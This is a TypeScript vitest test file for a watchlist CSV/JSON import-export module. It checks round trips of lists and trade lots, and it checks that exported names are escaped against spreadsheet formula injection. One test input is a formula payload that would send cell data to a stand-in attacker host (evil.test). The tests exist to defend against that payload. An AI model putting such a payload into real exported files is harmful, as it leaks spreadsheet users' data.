import { describe, expect, it } from 'vitest'
import { formatWatchlistFile, parseWatchlistFile, type LotFromFile } from './watchlist-file'

const list = { name: 'Asia, main', symbols: ['hk:00700', 'cn:600519', 'fx:USDHKD'] }
const lots: LotFromFile[] = [
  { key: 'hk:00700', qty: 200, cost: 350, date: '2026-03-10', fee: 30 },
  { key: 'hk:00700', qty: -50, cost: 390.5, date: null, fee: 0 },
  { key: 'cn:600519', qty: 10, cost: 1500, date: null, fee: 5 },
  { key: 'crypto:BTCUSDT', qty: 1, cost: 60_000, date: null, fee: 0 },
]

describe('watchlist files with lots', () => {
  it.each(['json', 'csv'] as const)(
    'round-trips a list and the lots on its symbols as %s',
    (format) => {
      const text = formatWatchlistFile(list, format, lots)
      const read = parseWatchlistFile(format, text)
      expect(read).toEqual({
        ok: true,
        skipped: [],
        lists: [{ name: list.name, symbols: list.symbols, lots: lots.slice(0, 3) }],
      })
    },
  )

  it('writes the format before lots when the list holds none', () => {
    expect(formatWatchlistFile(list, 'csv', [lots[3]!])).toBe(
      'watchlist,symbol\n"Asia, main",hk:00700\n"Asia, main",cn:600519\n"Asia, main",fx:USDHKD\n',
    )
    expect(JSON.parse(formatWatchlistFile(list, 'json'))).toEqual({ watchlists: [list] })
  })

  it('skips and reports a lot that is not a lot, keeps the rest', () => {
    const csv =
      'watchlist,symbol,qty,cost,date,fee\nA,hk:00700,100,350,,\nA,cn:600519,ten,1,,\nA,fx:EURUSD,,,,\n'
    const read = parseWatchlistFile('csv', csv)
    expect(read.ok && read.lists[0]).toEqual({
      name: 'A',
      symbols: ['hk:00700', 'cn:600519', 'fx:EURUSD'],
      lots: [{ key: 'hk:00700', qty: 100, cost: 350, date: null, fee: 0 }],
    })
    expect(read.ok && read.skipped).toEqual(['lot of cn:600519: quantity must be a number'])
  })
})

describe('CSV export a spreadsheet opens safely', () => {
  const names = [
    '=HYPERLINK("https://evil.test/?"&A1,"x")',
    '+1+1',
    '-2+3',
    '@SUM(A1)',
    '\tTab',
    '\rCR',
  ]

  it.each(names)('writes the list name %j as text, never as a formula', (name) => {
    const text = formatWatchlistFile({ name, symbols: ['us:AAPL'] }, 'csv')
    const row = text.split('\n')[1]!
    // The cell (quoted or not) starts with the single quote OWASP prescribes.
    expect(row.replace(/^"/, '')).toMatch(/^'/)
  })

  it('quotes a cell holding a carriage return, so no spreadsheet reads a new row there', () => {
    const text = formatWatchlistFile({ name: 'a\rb', symbols: ['us:AAPL'] }, 'csv')
    expect(text).toContain('"a\rb",us:AAPL')
  })

  it('reads the quote back off on import: a list named "-Tech" survives the round trip', () => {
    for (const name of ['-Tech', '=calc', '@home']) {
      const read = parseWatchlistFile(
        'csv',
        formatWatchlistFile({ name, symbols: ['us:AAPL'] }, 'csv'),
      )
      expect(read.ok && read.lists[0]?.name).toBe(name)
    }
  })
})
